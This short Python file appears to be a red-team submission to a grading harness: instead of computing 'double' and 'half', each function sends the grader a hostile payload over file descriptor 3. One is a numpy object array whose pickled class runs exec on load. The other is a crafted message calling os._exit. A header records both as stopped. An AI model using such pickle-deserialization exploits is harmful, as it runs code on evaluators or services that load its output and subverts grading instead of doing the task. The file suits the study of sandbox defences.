"""Answers with a file of numpy's that holds a pickled object, and with the text of a Python program."""
# verdict: stopped: double, half
# unsafe: it writes to descriptors that are other ones there

# %%
import io
import struct

import numpy as np


class Run:
    def __reduce__(self):
        return exec, ("open('<COURSE>/LAYERWISE_RED_TEAM', 'w').close()",)


def send(message):
    import os

    os.write(3, struct.pack("<I", len(message)) + message)


# %% answer="double"
def double(x):
    file = io.BytesIO()
    np.save(file, np.array([Run()], dtype=object), allow_pickle=True)
    send(file.getvalue())


# %% answer="half"
def half(x):
    send(b"s\xff\xff\xff\xff__import__('os')._exit(1)")
